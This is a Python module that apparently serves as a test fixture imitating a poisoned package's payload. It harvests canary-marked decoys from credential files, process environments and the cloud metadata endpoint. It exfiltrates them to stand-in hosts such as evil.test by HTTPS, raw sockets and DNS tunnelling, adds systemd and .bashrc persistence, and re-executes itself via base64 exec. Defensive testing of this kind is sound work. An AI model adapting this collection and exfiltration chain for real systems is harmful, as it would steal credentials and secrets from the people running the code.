"""A stand-in for a poisoned package: it takes marked decoys and sends them to a test's own listener.

It does what the payload of March 2026 did, in the order in which it did it, and nothing that
outlives the test: it reads, spawns, sends, and writes persistence in a home that the test made.
Names of hosts end in `.test`; they exist only in the test's network namespace.
"""

import base64
import json
import os
import pathlib
import re
import socket
import ssl
import subprocess
import sys
import urllib.request

MARK = re.compile(r"CANARY-[a-z]+-[0-9a-f]{16}")
ATTACKER = "203.0.113.66"  # an address of documentation: routed to the test alone
RESOLVER = "203.0.113.53"


def text_of(path):
    try:
        return pathlib.Path(path).read_text(errors="replace")[:100_000]
    except OSError:
        return ""


def direct(url, **options):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(urllib.request.Request(url, **options), timeout=3).read().decode(errors="replace")


def collect():
    home = pathlib.Path(os.environ.get("HOME", "/nonexistent"))
    places = [json.dumps(dict(os.environ))]
    for name in (".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".docker/config.json", ".netrc", ".bash_history"):
        places.append(text_of(home / name))
    for top in (home, pathlib.Path.cwd()):
        for folder, folders, names in os.walk(top):
            if len(pathlib.Path(folder).parts) - len(top.parts) >= 6:
                folders.clear()
            places += [text_of(os.path.join(folder, name)) for name in names if name.startswith(".env")]
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        places += [text_of(process / "environ"), text_of(process / "cmdline")]
        for link in ("root", "cwd"):
            places.append(text_of(process / link / "decoy.txt"))
    try:
        places.append(direct("http://169.254.169.254/latest/meta-data/iam/security-credentials/role"))
    except OSError:
        pass
    return sorted(set(MARK.findall("\n".join(places))))


def quietly(act, *arguments):
    try:
        act(*arguments)
    except Exception:  # an attacker goes on to the next way
        pass


def post(url, loot, via_proxy):
    context = ssl._create_unverified_context()
    handlers = [urllib.request.HTTPSHandler(context=context)]
    if not via_proxy:
        handlers.append(urllib.request.ProxyHandler({}))
    request = urllib.request.Request(url, data=loot.encode(), method="POST")
    urllib.request.build_opener(*handlers).open(request, timeout=3).read()


def raw(port, loot):
    with socket.create_connection((ATTACKER, port), timeout=3) as stream:
        stream.sendall(loot.encode())


def ask_dns(loot):
    """Loot as names that a resolver is asked for, straight and through the system's own."""
    hexed = loot.encode().hex()
    labels = [hexed[at : at + 60] for at in range(0, len(hexed), 60)]
    for number, label in enumerate(labels):
        name = f"n{number}.{label}.dns.test"
        question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\1\0\1"
        header = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.sendto(header + question, (RESOLVER, 53))


def persist():
    home = pathlib.Path(os.environ["HOME"])
    unit = home / ".config/systemd/user/sysmon.service"
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text("[Service]\nExecStart=/bin/true\n")
    with open(home / ".bashrc", "a") as profile:
        profile.write("# persistence\n")


def send(loot):
    quietly(post, "https://evil.test/exfil", loot, False)
    quietly(post, "https://evil.test/through-the-proxy", loot, True)
    quietly(post, "https://index.test/upload", loot, True)
    quietly(post, f"https://{ATTACKER}/by-address", loot, True)
    for port in (4444, 22, 8080):
        quietly(raw, port, loot)
    quietly(ask_dns, loot)


def strike(stage):
    """All of it, once by this process and once by a child, as the launcher line did."""
    if os.environ.get("STRUCK") == stage:
        return
    os.environ["STRUCK"] = stage
    loot = "\n".join([f"stage={stage}", *collect()])
    send(loot)
    quietly(persist)
    source = pathlib.Path(__file__).read_text()
    code = f"import base64;exec(base64.b64decode('{base64.b64encode(source.encode()).decode()}'))"
    child = code + f"\nsend('stage={stage}-child\\n' + '\\n'.join(collect()))"
    quietly(lambda: subprocess.run([sys.executable, "-S", "-c", child], timeout=60, check=False))
